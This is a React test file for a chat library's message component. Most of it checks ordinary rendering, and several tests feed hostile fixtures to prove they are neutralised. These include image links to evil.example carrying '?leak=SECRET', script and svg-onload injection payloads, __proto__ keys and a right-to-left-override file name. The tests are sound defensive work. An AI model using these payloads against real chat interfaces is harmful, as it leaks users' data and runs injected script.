import { afterEach, describe, expect, it, vi } from 'vitest';
import { act, cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { renderToString } from 'react-dom/server';
import { ChatProvider, createObserverStore, Message, type ChatProviderProps, type ObserverStore } from '@oddkin/ai';
import { createDocuments, createFrames, documentEntry } from '@oddkin/ai/testing';
import type { DocumentEntry } from '@oddkin/ai/store';

afterEach(cleanup);

const documents = createDocuments();
type Parts = ReturnType<typeof documents.message>['parts'];

describe('message', () => {
  it('shows all nine types of parts in their order', () => {
    const { container } = show(
      [
        { type: 'reasoning', id: '1', text: 'thinking', state: 'done' },
        { type: 'text', id: '2', text: 'Hello **you**', state: 'done' },
        { type: 'tool-call', id: '3', toolCallId: 'call' },
        { type: 'approval', id: '4', approvalId: 'ap' },
        { type: 'artifact', id: '5', artifactId: 'map' },
        { type: 'file', id: '6', name: 'log.txt', mediaType: 'text/plain' },
        { type: 'data', id: '7', name: 'pose', data: { x: 12 } },
        { type: 'unsupported', id: '8', originalType: 'hologram' },
        { type: 'source', id: '9', sourceId: 's', title: 'Signs' },
      ],
      [
        documentEntry('oddkin.ai.tool-call', documents.toolCall({ toolCallId: 'call', tool: 'look_around' })),
        documentEntry('oddkin.ai.approval', documents.approval({ approvalId: 'ap', title: 'Break the door' })),
        documentEntry('oddkin.ai.artifact', documents.artifact({ artifactId: 'map', title: 'The map' })),
      ],
    );
    const parts = [...container.querySelector('.oddkin-message-parts')!.children].map(({ textContent }) => textContent);
    const telling = ['Reasoning', 'Hello you', 'look_around', 'Break the door', 'The map', 'log.txt', 'pose', 'hologram', 'Signs'];
    expect(parts.map((part, index) => part.includes(telling[index]!))).toEqual(telling.map(() => true));
  });

  it('says of records that have not come that they have not come', () => {
    show([
      { type: 'tool-call', id: '1', toolCallId: 'constructor' },
      { type: 'approval', id: '2', approvalId: '__proto__' },
      { type: 'artifact', id: '3', artifactId: 'toString' },
    ]);
    expect(screen.getByText('A tool call that has not come yet')).toBeTruthy();
    expect(screen.getByText('An approval that has not come yet')).toBeTruthy();
    expect(screen.getByText('An artifact that has not come yet')).toBeTruthy();
  });

  it('is an article named by its author, else by its role', () => {
    const frames = createFrames();
    const store = createObserverStore();
    store.ingest([frames.sessionInit(), frames.agentMessage({ text: 'Hello', from: 'Scout' })]);
    const [key] = store.getState().messages.records.keys();
    draw(store, <Message messageId={key!} />);
    expect(screen.getByRole('article', { name: 'Scout' }).dataset).toMatchObject({ role: 'assistant', state: 'done' });
    show([{ type: 'text', id: '1', text: 'x' }], [], { role: 'user' });
    expect(screen.getByRole('article', { name: 'You' })).toBeTruthy();
  });

  it('reads Markdown only where an assistant wrote it', () => {
    const { container } = show([{ type: 'text', id: '1', text: '*not* bold\nsecond line' }], [], { role: 'user' });
    expect(container.querySelector('em')).toBeNull();
    expect(screen.getByText(/\*not\* bold/)).toBeTruthy();
  });

  it('numbers citations in paragraphs, lists and tables by the sources of the whole message, and leaves others as text', () => {
    const text =
      'First claim[^doc-1].\n\n```js\nlet a = "[^doc-1]"\n```\n\n- list claim[^doc-2]\n\n| a | b |\n|---|---|\n| cell[^doc-1] | x[^nobody] |\n';
    const { container } = show([
      { type: 'source', id: 'a', sourceId: 'doc-1', title: 'Handbook', url: 'https://example.test/h' },
      { type: 'text', id: 'b', text },
      { type: 'source', id: 'c', sourceId: 'doc-2', title: 'Paper', url: 'https://example.test/p' },
    ]);
    const citations = [...container.querySelectorAll('.oddkin-text .oddkin-citation-number')].map((button) =>
      button.getAttribute('aria-label'),
    );
    expect(citations).toEqual(['Source 1: Handbook', 'Source 2: Paper', 'Source 1: Handbook']);
    expect(container.querySelector('pre')?.textContent).toBe('let a = "[^doc-1]"');
    expect(container.querySelector('table')?.textContent).toContain('x[^nobody]');
  });

  it('makes the browser call nobody but the origins that the host trusts, neither in the page nor on the server', () => {
    const parts: Parts = [
      {
        type: 'text',
        id: '1',
        text: '![x](https://evil.example/p.png?leak=SECRET)\n\n![y][r]\n\n[r]: https://evil.example/q.png\n\n<img src="https://evil.example/r.png">\n\n[![z](//evil.example/z.png)](https://ok.example)\n\n![ok](https://cdn.example.test/logo.png)\n\n![s](data:image/svg+xml,<svg/onload=alert(1)>)',
      },
      { type: 'source', id: '2', sourceId: 'a', title: 't', url: 'https://evil.example/?leak=SECRET' },
      { type: 'file', id: '3', name: 'a.png', mediaType: 'image/png', url: 'https://evil.example/f.png?leak=SECRET' },
      { type: 'file', id: '4', name: 'a.mp4', mediaType: 'video/mp4', url: 'https://evil.example/f.mp4' },
    ];
    const urlPolicy = { mediaOrigins: ['https://cdn.example.test'] };
    const { container, store } = show(parts, [], {}, { urlPolicy });
    const loading = [...container.querySelectorAll('[src], [srcset], [poster], link')].map((element) => element.getAttribute('src'));
    expect(loading).toEqual(['https://cdn.example.test/logo.png']);
    const html = renderToString(element(store, { urlPolicy }, <Message messageId="m" />));
    expect(
      [...html.matchAll(/(?:src|href)="([^"]*)"[^>]*>/g)]
        .map(([tag]) => tag)
        .filter((tag) => tag.startsWith('src') && tag.includes('evil')),
    ).toEqual([]);
    expect(html).not.toMatch(/<link[^>]*evil/);
  });

  it('runs no artifact: pages and drawings are shown as source, titles as text', () => {
    const { container } = show(
      [
        { type: 'artifact', id: '1', artifactId: 'a1' },
        { type: 'artifact', id: '2', artifactId: 'a2' },
      ],
      [
        documentEntry(
          'oddkin.ai.artifact',
          documents.artifact({
            artifactId: 'a1',
            title: '</title><script>alert(1)</script>',
            kind: 'code',
            mediaType: 'text/html',
            revisions: [{ revisionId: 'r', content: "<script>parent.document.title='pwned'</script>" }],
          }),
        ),
        documentEntry(
          'oddkin.ai.artifact',
          documents.artifact({
            artifactId: 'a2',
            kind: 'image',
            mediaType: 'image/svg+xml',
            revisions: [{ revisionId: 'r', content: "<svg onload='alert(1)'></svg>" }],
          }),
        ),
      ],
    );
    expect(container.querySelector('script, iframe, object, embed, img, [onload]')).toBeNull();
    expect(screen.getByText("<script>parent.document.title='pwned'</script>").closest('pre')).not.toBeNull();
    expect(screen.getByText('</title><script>alert(1)</script>')).toBeTruthy();
  });

  it('shows the data when the component registered for it throws, and the rest of the message', () => {
    const quiet = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const broken = () => {
      throw new Error('broken');
    };
    show(
      [
        { type: 'data', id: '1', name: 'pose', data: { x: 12 } },
        { type: 'text', id: '2', text: 'still here' },
      ],
      [],
      {},
      { renderers: { data: { pose: broken } } },
    );
    expect(screen.getByText(/stopped with an error/)).toBeTruthy();
    expect(screen.getByText('12')).toBeTruthy();
    expect(screen.getByText('still here')).toBeTruthy();
    quiet.mockRestore();
  });

  it('finds no renderer by the name of what every object has', () => {
    show([{ type: 'data', id: '1', name: 'constructor', data: 1 }], [], {}, { renderers: { data: {} } });
    expect(screen.getByText('Data: constructor')).toBeTruthy();
  });

  it('makes the marks that turn a file name round visible', () => {
    show([{ type: 'file', id: '1', name: 'invoice\u202etxt.exe', mediaType: 'x/y' }]);
    expect(screen.getByText('invoice\\u202etxt.exe').tagName).toBe('BDI');
  });

  it('says how much text was lost, and that the session ended in the midst', () => {
    const frames = createFrames();
    const store = createObserverStore();
    const delta = (offset: number, text: string) =>
      frames.agentMessage({ delta: { messageId: 'm', partId: 'p', partType: 'text', offset, text, state: 'streaming' } });
    store.ingest([frames.sessionInit(), delta(0, 'one '), delta(10, 'three')]);
    draw(store, <Message messageId="m" />, { sessionId: frames.sessionId });
    expect(screen.getByRole('article').dataset['state']).toBe('incomplete');
    expect(screen.getByText(/6 characters are missing/)).toBeTruthy();
    act(() => void store.ingest([frames.sessionClose()]));
    expect(screen.getByRole('article').dataset['state']).toBe('interrupted');
    expect(document.querySelector('[data-state="streaming"]')).toBeNull();
  });

  it('offers another try only where somebody would take it, and sends it once', async () => {
    const parts: Parts = [{ type: 'text', id: '1', text: 'x' }];
    show(parts);
    expect(screen.queryByRole('button', { name: 'Try again' })).toBeNull();
    cleanup();
    const onAction = vi.fn((_action: unknown) => Promise.resolve());
    show(parts, [], {}, { onAction });
    const retry = screen.getByRole('button', { name: 'Try again' });
    await act(async () => {
      fireEvent.click(retry);
      fireEvent.click(retry);
    });
    expect(onAction).toHaveBeenCalledOnce();
    expect(onAction.mock.lastCall?.[0]).toEqual({ type: 'message.retry', messageId: 'm', sessionId: undefined });
  });

  it('copies its text as it was written, with its sources', async () => {
    const writeText = vi.fn(() => Promise.resolve());
    vi.stubGlobal('navigator', { clipboard: { writeText } });
    show([
      { type: 'text', id: '1', text: 'A *claim*[^s].' },
      { type: 'reasoning', id: '2', text: 'hidden' },
      { type: 'source', id: '3', sourceId: 's', title: 'Signs', url: 'https://example.test' },
    ]);
    await act(async () => void fireEvent.click(screen.getByRole('button', { name: 'Copy message as Markdown' })));
    expect(writeText).toHaveBeenCalledWith('A *claim*[^s].\n\n[^s]: Signs https://example.test');
    expect(screen.getByRole('button', { name: 'Copied' })).toBeTruthy();
    vi.unstubAllGlobals();
  });

  it('leaves the elements of finished parts alone while another part grows', () => {
    const frames = createFrames();
    const store = createObserverStore();
    const delta = (partId: string, offset: number, text: string, state: string) =>
      frames.agentMessage({ delta: { messageId: 'm', partId, partType: 'text', offset, text, state } });
    store.ingest([frames.sessionInit(), delta('a', 0, '```js\nlet a=1\n```', 'done'), delta('b', 0, 'Tail', 'streaming')]);
    const { container } = draw(store, <Message messageId="m" />, { sessionId: frames.sessionId });
    const pre = container.querySelector('pre');
    const button = within(container.querySelector('.oddkin-code-block')!).getAllByRole('button')[0]!;
    button.focus();
    for (let count = 0; count < 50; count += 1) act(() => void store.ingest([delta('b', 4 + 5 * count, ' grow', 'streaming')]));
    expect(container.querySelector('pre')).toBe(pre);
    expect(document.activeElement).toBe(button);
    expect(container.textContent).toContain('Tail grow grow');
  });
});

function show(
  parts: Parts,
  records: readonly DocumentEntry[] = [],
  overrides: Parameters<typeof documents.message>[0] = {},
  provider: Partial<ChatProviderProps> = {},
) {
  const store = createObserverStore();
  store.put([...records, documentEntry('oddkin.ai.message', documents.message({ id: 'm', parts, ...overrides }))]);
  return { ...draw(store, <Message messageId="m" />, provider), store };
}

function draw(store: ObserverStore, children: ChatProviderProps['children'], provider: Partial<ChatProviderProps> = {}) {
  return render(element(store, provider, children));
}

function element(store: ObserverStore, provider: Partial<ChatProviderProps>, children: ChatProviderProps['children']) {
  return (
    <ChatProvider store={store} {...provider}>
      {children}
    </ChatProvider>
  );
}
